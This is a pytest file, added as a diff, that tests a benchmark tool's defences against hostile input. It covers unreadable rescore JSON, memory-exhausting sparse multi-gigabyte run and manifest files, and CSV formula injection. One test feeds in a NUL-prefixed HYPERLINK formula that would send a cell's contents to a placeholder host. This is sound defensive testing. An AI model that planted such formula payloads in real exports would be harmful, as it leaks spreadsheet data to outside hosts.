@@ -1,0 +1,121 @@
+"""Hostile input, twenty-third pass, the archive and audit side (issue 19's fresh pass of the same kinds): the cases
+it found bad, each with the rule it now obeys.
+
+- `verify` of a run whose rescores/001/rescore.json a newer benchrun wrote (`schema_version: 2`), or with a key or a
+  value that is not a rescore's: `unreadable: not a rescore's JSON`, naming neither the key nor the version, where
+  run.json's says both. Now as run.json's (`archive.reader.validation_said`, in `audit.verify.check_rescore`)
+- a run started into a directory holding a planted run.json of gigabytes (sparse): read whole to say which run it
+  holds (`benchrun: error: MemoryError:` under a 3 GB limit). Now read as every reader reads run.json, at most
+  MAX_JSON_BYTES (`archive.claims.taken`; the bound moved to `core.filebytes`)
+- `export --text` of a run whose model answered `\\0=HYPERLINK(...)`: the cell was written as it is, where ASVS
+  1.2.10 lists NUL among a formula's first characters. Now after a ' (`audit.export.FORMULA_START`)
+- `list` and `show` of a killed run (no seal) whose manifest.json is a planted file of gigabytes: read whole
+  (`out of memory` under a 2.5 GB limit) to tell answers from samples and name its tasks. Now the manifest is read
+  whole only once its sha256, taken in pieces, is the run's manifest id (`archive.reader.Run.manifest_bytes`)
+
+What held is in the pass's note.
+"""
+from __future__ import annotations
+
+import csv
+import io
+import json
+import resource
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from benchrun.core.errors import EXIT
+from benchrun.testing.inprocess import child_env
+from tests.helpers.archives import synthetic_run
+from tests.helpers.auditcli import audit
+from tests.helpers.commands import run_in_process
+
+NEWER = "which this benchrun does not know (written by a newer benchrun? read it with that one)"
+LIMIT = 3 * 2**30
+"""The address space of a command given a planted file larger than it: unfixed, it fails at once, never swaps."""
+
+
+def _limited() -> None:
+    resource.setrlimit(resource.RLIMIT_AS, (LIMIT, LIMIT))
+
+
+def _sparse(path: Path, size: int = 4 * 2**30) -> None:
+    """A file of `size` bytes (zeros) that costs no disk."""
+    with open(path, "wb") as handle:
+        handle.truncate(size)
+
+
+def _limited_run(cwd: Path, module: str, *args: str) -> subprocess.CompletedProcess:
+    """`python -m module ARGS` in a process of its own, its address space LIMIT."""
+    return subprocess.run([sys.executable, "-m", module, *args], cwd=cwd, env=child_env(), capture_output=True,
+                          text=True, timeout=300, preexec_fn=_limited)
+
+
+# -- a rescore.json of another version says so --------------------------------------------------------------------------
+
+@pytest.mark.slow
+@pytest.mark.parametrize(("change", "said"), [
+    ({"schema_version": 2}, f"schema_version: schema version 2, {NEWER}"),
+    ({"judged_by": "x"}, f"judged_by: a key {NEWER}"),
+    ({"counts": {"samples": "all"}}, "counts.samples: Input should be a valid integer, unable to parse string as an "
+                                     "integer"),
+])
+def test_verify_names_the_key_of_a_rescore_json_it_cannot_read(tmp_path, change, said):
+    """A rescore.json that a newer benchrun wrote, or with a key or value that is none of a rescore's, was said to be
+    `not a rescore's JSON`, where run.json's names the key and says a newer benchrun's is one."""
+    run_dir = run_in_process(tmp_path, "r")
+    assert audit(tmp_path, "rescore", str(run_dir)).returncode == EXIT["ok"]
+    path = run_dir / "rescores" / "001" / "rescore.json"
+    path.write_text(json.dumps({**json.loads(path.read_text()), **change}))
+    done = audit(tmp_path, "verify", str(run_dir))
+    assert done.returncode == EXIT["not_intact"]
+    assert f"FAIL  rescores/001/rescore.json: unreadable: {said}\n" in done.stdout
+
+
+# -- a planted run.json of gigabytes where a run would start -----------------------------------------------------------
+
+@pytest.mark.slow
+def test_a_run_into_a_directory_holding_a_run_json_of_gigabytes_is_one_line(tmp_path):
+    """The directory's run.json was read whole to name the run it holds: 4 GB in memory, or a MemoryError."""
+    there = tmp_path / "there"
+    there.mkdir()
+    _sparse(there / "run.json")
+    done = _limited_run(tmp_path, "benchrun", f"hydra.run.dir={there}", "runner.host=http://127.0.0.1:9")
+    assert (done.returncode, done.stderr) == (EXIT["usage"], (
+        f"benchrun: error: {there} already holds a run's files (run.json); nothing was changed; pick a new directory "
+        "(hydra.run.dir=...)\n"))
+    assert sorted(p.name for p in there.iterdir()) == ["run.json"]
+
+
+# -- a NUL before a formula in an export ------------------------------------------------------------------------------
+
+@pytest.mark.slow
+def test_an_exported_answer_beginning_with_nul_and_a_formula_is_escaped(tmp_path):
+    """`\\0=HYPERLINK(...)`, a model's answer, was written to the CSV as it is: ASVS 1.2.10 names NUL among the first
+    characters a spreadsheet may run a formula after."""
+    answer = '\x00=HYPERLINK("http://x.example/?"&A1)'
+    run_dir = run_in_process(tmp_path, "r", responder=lambda req: answer)
+    done = audit(tmp_path, "export", str(run_dir), "--text")
+    assert done.returncode == EXIT["ok"], done.stderr
+    rows = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
+    assert {row["response"] for row in rows} == {"'" + answer}
+
+
+# -- a planted manifest of gigabytes beside a killed run ---------------------------------------------------------------
+
+@pytest.mark.slow
+def test_list_and_show_of_a_killed_run_with_a_manifest_of_gigabytes(tmp_path):
+    """A killed run's manifest.json (no seal covers it) replaced by a sparse file of 4 GB: list and show read it
+    whole (to tell answers from samples, and name its tasks) before any digest was checked."""
+    run_dir = synthetic_run(tmp_path / "outputs" / "k", [1, 0], finish=False)
+    _sparse(run_dir / "manifest.json")
+    listed = _limited_run(tmp_path, "benchrun.audit", "list", str(tmp_path / "outputs"))
+    assert listed.returncode == EXIT["ok"], listed.stderr
+    assert " 555555555555 │ running │     2/2 │ m     │ synthetic " in listed.stdout
+    shown = _limited_run(tmp_path, "benchrun.audit", "show", str(run_dir))
+    assert (shown.returncode, shown.stderr) == (EXIT["archive"], (
+        f"benchrun: error: in '{run_dir}': run 555555555555: manifest.json: changed: its sha256 is not the manifest "
+        f"id in run.json, so what it says cannot be trusted; benchrun-audit verify {run_dir} says what changed\n"))
